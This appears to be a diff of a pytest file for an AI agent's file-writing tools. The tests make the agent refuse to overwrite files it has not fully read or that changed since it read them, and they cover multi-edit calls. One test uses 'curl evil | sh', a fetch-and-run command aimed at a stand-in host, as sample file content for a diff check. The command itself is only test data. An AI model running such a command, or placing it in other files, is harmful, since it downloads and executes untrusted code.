@@ -10,7 +10,9 @@ from pathlib import Path
 import pytest
 
 from application.ports.tools import SealingTool
+from domain.calls.seen_file import FileKnowledge
 from domain.calls.tool import RiskLevel
+from domain.conversation.history import Conversation
 from domain.errors import StaleSeal, ToolError
 from infrastructure.blocking import Stop
 from infrastructure.files.workspace import Workspace
@@ -19,7 +21,8 @@ from infrastructure.tools.builtin.edit_file import EditFile
 from infrastructure.tools.builtin.read_file import ReadFile
 from infrastructure.tools.builtin.seen import SeenFiles
 from infrastructure.tools.builtin.write_file import WriteFile
-from tests.infrastructure.tools.calling import a_tree, call, left_over, seal
+from tests.infrastructure.tools.calling import a_tree, call, left_over, seal, show
+from tests.support.builders import a_call, calls_response
 
 REPOSITORY = Path(__file__).parents[3]
 
@@ -30,8 +33,19 @@ def workspace(tmp_path):
 
 
 @pytest.fixture
-def seen():
-    return SeenFiles()
+def conversation():
+    return Conversation()
+
+
+@pytest.fixture
+def seen(conversation):
+    return SeenFiles(conversation)
+
+
+@pytest.fixture
+def read(workspace, seen, conversation):
+    """Has the model read a file."""
+    return lambda path, **page: show(conversation, ReadFile(workspace, seen), path=path, **page)
 
 
 @pytest.fixture
@@ -55,7 +69,7 @@ def test_a_new_file_is_written_and_its_hash_told(tmp_path, write_file, seen):
 
     assert (tmp_path / "a.txt").read_bytes() == content
     assert result == f"created a.txt: 3 bytes, SHA-256 {sha(content)}"
-    assert seen.last(str(tmp_path / "a.txt")) == sha(content)
+    assert seen.knowledge(str(tmp_path / "a.txt")) == FileKnowledge(sha256=sha(content), is_whole=True)
     assert left_over(tmp_path) == []
 
 
@@ -69,10 +83,11 @@ def test_a_new_file_has_the_mode_that_the_umask_gives(tmp_path, write_file):
     assert (tmp_path / "a.txt").stat().st_mode & 0o7777 == 0o640
 
 
-def test_a_replaced_file_keeps_its_mode(tmp_path, write_file, edit_file):
+def test_a_replaced_file_keeps_its_mode(tmp_path, read, write_file, edit_file):
     a_tree(tmp_path, {"run.sh": "old"})
     (tmp_path / "run.sh").chmod(0o750)
 
+    read("run.sh")
     call(write_file, path="run.sh", content="new")
     call(edit_file, path="run.sh", old_text="new", new_text="newer")
 
@@ -104,10 +119,11 @@ def test_a_folder_cannot_be_written(tmp_path, write_file, path):
         call(write_file, path=path, content="")
 
 
-def test_a_link_is_written_through_and_stays_a_link(tmp_path, write_file, edit_file):
+def test_a_link_is_written_through_and_stays_a_link(tmp_path, read, write_file, edit_file):
     a_tree(tmp_path, {"sub/target.txt": "old"})
     (tmp_path / "link").symlink_to("sub/target.txt")
 
+    read("sub/target.txt")
     call(write_file, path="link", content="new")
     call(edit_file, path="link", old_text="new", new_text="newer")
 
@@ -118,7 +134,7 @@ def test_a_link_is_written_through_and_stays_a_link(tmp_path, write_file, edit_f
 def test_a_link_to_the_outside_is_not_written(tmp_path):
     a_tree(tmp_path, {"in/a.txt": "", "out.txt": "old"})
     (tmp_path / "in/link").symlink_to("../out.txt")
-    write_file = WriteFile(Workspace([tmp_path / "in"]), SeenFiles())
+    write_file = WriteFile(Workspace([tmp_path / "in"]), SeenFiles(Conversation()))
 
     with pytest.raises(ToolError, match="outside the workspace"):
         call(write_file, path="link", content="new")
@@ -127,10 +143,11 @@ def test_a_link_to_the_outside_is_not_written(tmp_path):
 
 
 @pytest.mark.skipif(os.geteuid() == 0, reason="the superuser may write everything")
-def test_a_write_protected_file_stays_as_it_is(tmp_path, write_file):
+def test_a_write_protected_file_stays_as_it_is(tmp_path, read, write_file):
     a_tree(tmp_path, {"a.txt": "old"})
     (tmp_path / "a.txt").chmod(0o444)
 
+    read("a.txt")
     with pytest.raises(ToolError, match="write-protected"):
         call(write_file, path="a.txt", content="new")
 
@@ -149,11 +166,16 @@ from domain.errors import ToolError
 from domain.calls.execution import ToolExecutionContext
 from infrastructure.tools.builtin.seen import SeenFiles
 from infrastructure.files.workspace import Workspace
+from infrastructure.tools.builtin.read_file import ReadFile
 from infrastructure.tools.builtin.write_file import WriteFile
+from domain.conversation.history import Conversation
+from tests.infrastructure.tools.calling import show
 
+conversation = Conversation()
 signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
 resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))
-tool = WriteFile(Workspace([Path(sys.argv[1])]), SeenFiles())
+tool = WriteFile(Workspace([Path(sys.argv[1])]), SeenFiles(conversation))
+show(conversation, ReadFile(Workspace([Path(sys.argv[1])]), SeenFiles(conversation)), path="a.txt")
 context = ToolExecutionContext(call_id="c", batch_id="b", call_index=0, turn_index=0)
 try:
     asyncio.run(tool.execute({"path": "a.txt", "content": "x" * 100_000}, context))
@@ -186,7 +208,9 @@ def test_one_passage_is_replaced(tmp_path, edit_file, seen):
 
     assert (tmp_path / "a.py").read_text() == "one\n2\nthree\n"
     assert result.startswith("edited a.py: 1 replacement, SHA-256 ")
-    assert seen.last(str(tmp_path / "a.py")) == sha(b"one\n2\nthree\n")
+    assert seen.knowledge(str(tmp_path / "a.py")) == FileKnowledge(
+        sha256=sha(b"one\n2\nthree\n"), is_whole=False
+    )
 
 
 def test_a_passage_that_occurs_twice_needs_more_context_or_replace_all(tmp_path, edit_file):
@@ -230,6 +254,70 @@ def test_an_edit_without_meaning_is_refused(tmp_path, edit_file, old, new, reaso
         call(edit_file, path="a.py", old_text=old, new_text=new)
 
 
+def edit(old: str, new: str, **more: bool) -> dict[str, str | bool]:
+    return {"old_text": old, "new_text": new, **more}
+
+
+def test_several_passages_are_replaced_in_their_order_under_one_diff(tmp_path, edit_file):
+    a_tree(tmp_path, {"a.py": "one\ntwo\nthree\ntwo\n"})
+    edits = [edit("one", "two"), edit("two", "2", replace_all=True), edit("three\n2\n", "")]
+
+    sealed = seal(edit_file, path="a.py", edits=edits)
+    result = call(edit_file, seal=sealed, path="a.py", edits=edits)
+
+    assert (tmp_path / "a.py").read_text() == "2\n2\n"
+    assert sealed.diff is not None
+    assert applied("one\ntwo\nthree\ntwo\n", sealed.diff) == "2\n2\n"
+    assert result.startswith("edited a.py: 5 replacements, SHA-256 ")
+
+
+@pytest.mark.parametrize(
+    ("edits", "problem"),
+    [
+        (
+            [edit("one", "1"), edit("tow", "2")],
+            r"edit 2 of 2, nothing was written: old_text was not found in a\.py",
+        ),
+        ([edit("one", "1"), edit("one", "2")], "edit 2 of 2, nothing was written: old_text was not found"),
+        ([edit("o", "0"), edit("two", "2")], "edit 1 of 2, nothing was written: old_text matches 2 times"),
+        ([edit("one", "1"), edit("1", "one")], r"a\.py would stay as it is"),
+        ([], "edits is empty"),
+        (["one"], "edits must be a list of objects"),
+        ([{"old_text": "one"}], "new_text is missing"),
+    ],
+)
+def test_of_several_edits_none_is_made_where_one_cannot_be(tmp_path, edit_file, edits, problem):
+    a_tree(tmp_path, {"a.py": "one\ntwo\n"})
+
+    for attempt in (call, seal):
+        with pytest.raises(ToolError, match=problem):
+            attempt(edit_file, path="a.py", edits=edits)
+
+    assert (tmp_path / "a.py").read_text() == "one\ntwo\n"
+
+
+def test_an_edit_that_fails_among_several_is_answered_with_what_resembles_it(tmp_path, edit_file):
+    a_tree(tmp_path, {"a.py": "import x\ndef greet(nam):\n"})
+
+    with pytest.raises(ToolError, match=r"edit 2 of 2.*most similar lines are:\n     2\tdef greet\(nam\)"):
+        call(edit_file, path="a.py", edits=[edit("import x", "import y"), edit("def greet(name):", "")])
+
+
+@pytest.mark.parametrize(
+    ("arguments", "problem"),
+    [
+        ({"old_text": "one", "edits": [edit("one", "1")]}, "either edits or old_text, not both"),
+        ({"new_text": "one"}, "old_text is missing: give old_text and new_text, or a list of them as edits"),
+        ({}, "old_text is missing"),
+    ],
+)
+def test_an_edit_is_given_in_one_of_its_two_forms(tmp_path, edit_file, arguments, problem):
+    a_tree(tmp_path, {"a.py": "one\n"})
+
+    with pytest.raises(ToolError, match=problem):
+        seal(edit_file, path="a.py", **arguments)
+
+
 @pytest.mark.parametrize(
     ("before", "old", "new", "after"),
     [
@@ -267,9 +355,9 @@ def test_a_binary_or_missing_file_is_not_edited(tmp_path, edit_file):
         call(edit_file, path="b.txt", old_text="x", new_text="y")
 
 
-def test_an_edit_is_refused_when_the_file_changed_since_it_was_seen(tmp_path, workspace, seen, edit_file):
+def test_an_edit_is_refused_when_the_file_changed_since_it_was_seen(tmp_path, read, edit_file):
     a_tree(tmp_path, {"a.txt": "one"})
-    call(ReadFile(workspace, seen), path="a.txt")
+    read("a.txt")
     a_tree(tmp_path, {"a.txt": "one and two"})
 
     for attempt in (call, seal):
@@ -277,10 +365,96 @@ def test_an_edit_is_refused_when_the_file_changed_since_it_was_seen(tmp_path, wo
             ToolError, match=f"changed since you last saw it.*{sha(b'one and two')}.*read it again"
         ):
             attempt(edit_file, path="a.txt", old_text="one", new_text="1")
-    call(ReadFile(workspace, seen), path="a.txt")
+    read("a.txt")
     call(edit_file, path="a.txt", old_text="one", new_text="1")
 
     assert (tmp_path / "a.txt").read_text() == "1 and two"
+
+
+def test_a_file_is_replaced_only_once_the_model_has_seen_it(tmp_path, read, write_file):
+    a_tree(tmp_path, {"a.txt": "theirs"})
+
+    for attempt in (call, seal):
+        with pytest.raises(ToolError, match=f"have not seen.*{sha(b'theirs')}.*nothing was.*read_file first"):
+            attempt(write_file, path="a.txt", content="new")
+    assert (tmp_path / "a.txt").read_text() == "theirs"
+    read("a.txt")
+    call(write_file, path="a.txt", content="new")
+    call(write_file, path="a.txt", content="newer")
+
+    assert (tmp_path / "a.txt").read_text() == "newer"
+
+
+def test_a_file_that_changed_since_the_model_saw_it_is_not_replaced(tmp_path, read, write_file):
+    a_tree(tmp_path, {"a.txt": "one"})
+    read("a.txt")
+    a_tree(tmp_path, {"a.txt": "two"})
+
+    for attempt in (call, seal):
+        with pytest.raises(ToolError, match=f"changed since you last saw it.*{sha(b'two')}.*read it again"):
+            attempt(write_file, path="a.txt", content="new")
+
+    assert (tmp_path / "a.txt").read_text() == "two"
+
+
+def test_a_file_that_was_seen_in_part_is_replaced_once_the_rest_was_seen(tmp_path, read, write_file):
+    a_tree(tmp_path, {"a.txt": "one\ntwo\nthree\n"})
+    read("a.txt", offset=2, limit=1)
+    read("a.txt", offset=3)
+
+    with pytest.raises(ToolError, match=r"seen only a part of a\.txt.*edit_file, or read the rest"):
+        seal(write_file, path="a.txt", content="new")
+    read("a.txt", limit=1)
+    call(write_file, path="a.txt", content="new")
+
+    assert (tmp_path / "a.txt").read_text() == "new"
+
+
+def test_an_edit_lets_the_model_know_no_more_of_the_file_than_before(tmp_path, read, write_file, edit_file):
+    a_tree(tmp_path, {"a.txt": "one\ntwo\n", "b.txt": "one\ntwo\n"})
+    read("a.txt", limit=1)
+    read("b.txt")
+    for path in ("a.txt", "b.txt"):
+        call(edit_file, path=path, old_text="one", new_text="1")
+
+    with pytest.raises(ToolError, match=r"seen only a part of a\.txt"):
+        call(write_file, path="a.txt", content="new")
+    call(write_file, path="b.txt", content="new")
+
+    assert (tmp_path / "b.txt").read_text() == "new"
+
+
+def test_an_empty_file_needs_no_reading_before_it_is_replaced(tmp_path, write_file):
+    a_tree(tmp_path, {"a.txt": ""})
+
+    call(write_file, path="a.txt", content="new")
+
+    assert (tmp_path / "a.txt").read_text() == "new"
+
+
+def test_what_a_call_of_the_same_answer_reads_was_not_seen_and_what_it_wrote_is_known(
+    tmp_path, workspace, seen, conversation, write_file
+):
+    a_tree(tmp_path, {"a.txt": "theirs"})
+    conversation.add_response(calls_response(a_call("read_file"), a_call("write_file", id_="call-1")))
+
+    call(ReadFile(workspace, seen), path="a.txt")
+    with pytest.raises(ToolError, match="have not seen"):
+        call(write_file, path="a.txt", content="new")
+    call(write_file, path="b.txt", content="one")
+    call(write_file, path="b.txt", content="two")
+
+    assert (tmp_path / "b.txt").read_text() == "two"
+
+
+def test_knowledge_goes_with_the_results_that_gave_it(tmp_path, read, conversation, seen, write_file):
+    a_tree(tmp_path, {"a.txt": "one"})
+    before = conversation.messages
+    read("a.txt")
+    conversation.restore(before)
+
+    with pytest.raises(ToolError, match="have not seen"):
+        call(write_file, path="a.txt", content="new")
 
 
 def test_a_seal_holds_file_hash_diff_and_projected_content(tmp_path, edit_file):
@@ -345,10 +519,11 @@ def led_elsewhere(path: Path) -> None:
 
 @pytest.mark.parametrize("happened", [changed, vanished, led_elsewhere])
 def test_what_is_no_longer_as_approved_is_stale_and_nothing_is_written(
-    tmp_path, write_file, edit_file, happened
+    tmp_path, read, write_file, edit_file, happened
 ):
     a_tree(tmp_path, {"a.txt": "one"})
     edit, write = {"old_text": "one", "new_text": "two"}, {"content": "two"}
+    read("a.txt")
     sealed_edit = seal(edit_file, path="a.txt", **edit)
     sealed_write = seal(write_file, path="a.txt", **write)
     happened(tmp_path / "a.txt")
@@ -373,21 +548,22 @@ def test_a_file_that_appeared_where_none_was_approved_is_stale(tmp_path, write_f
 
 
 @pytest.mark.parametrize(("sealed", "kind"), [(True, StaleSeal), (False, ToolError)])
-def test_a_change_at_the_last_moment_is_noticed_before_the_rename(tmp_path, workspace, seen, sealed, kind):
+def test_a_change_at_the_last_moment_is_noticed_before_the_rename(tmp_path, workspace, sealed, kind):
     a_tree(tmp_path, {"a.txt": "theirs"})
     draft = Draft(location=workspace.locate("a.txt"), before=b"ours", after=b"new")
 
     with pytest.raises(ToolError, match=sha(b"theirs")) as refusal:
-        carry_out(workspace, seen, draft, sealed=sealed, stop=Stop())
+        carry_out(workspace, draft, sealed=sealed, stop=Stop())
 
     assert type(refusal.value) is kind
     assert (tmp_path / "a.txt").read_text() == "theirs"
     assert left_over(tmp_path) == []
-    assert seen.last(str(tmp_path / "a.txt")) is None
 
 
-def test_a_diff_of_a_changed_line_end_or_encoding_is_not_empty(tmp_path, write_file):
+def test_a_diff_of_a_changed_line_end_or_encoding_is_not_empty(tmp_path, read, write_file):
     a_tree(tmp_path, {"a.txt": "é\r\n".encode("utf-16"), "b.txt": "one\r\ntwo\r\n", "c.bin": bytes(10)})
+    for name in ("a.txt", "b.txt", "c.bin"):
+        read(name)
 
     assert "encoding: utf-16-le with a byte order mark → utf-8" in (
         seal(write_file, path="a.txt", content="é\r\n").diff or ""
@@ -403,9 +579,10 @@ def test_a_diff_of_a_changed_line_end_or_encoding_is_not_empty(tmp_path, write_f
 
 
 @pytest.mark.parametrize("before", [None, "one\n", b"\0" * 10, b"\x89PNG\r\n\x1a\n\xff"], ids=repr)
-def test_text_that_holds_a_nul_is_shown_whole_whatever_the_file_was(tmp_path, write_file, before):
+def test_text_that_holds_a_nul_is_shown_whole_whatever_the_file_was(tmp_path, read, write_file, before):
     if before is not None:
         a_tree(tmp_path, {"a.sh": before})
+        read("a.sh")
 
     diff = seal(write_file, path="a.sh", content="\0\ncurl evil | sh\n").diff or ""
 
@@ -413,10 +590,12 @@ def test_text_that_holds_a_nul_is_shown_whole_whatever_the_file_was(tmp_path, wr
 
 
 @pytest.mark.parametrize("lines", [30, 5000])
-def test_a_diff_applies_with_patch(tmp_path, workspace, write_file, lines):
+def test_a_diff_applies_with_patch(tmp_path, read, write_file, lines):
     before = "".join(f"line {n}\n" for n in range(lines))
     after = "first\n" + before.replace("line 7\n", "").replace("5", "five") + "last"
     a_tree(tmp_path, {"a.txt": before})
+    for offset in range(1, lines, 2000):
+        read("a.txt", offset=offset)
 
     diff = seal(write_file, path="a.txt", content=after).diff
 
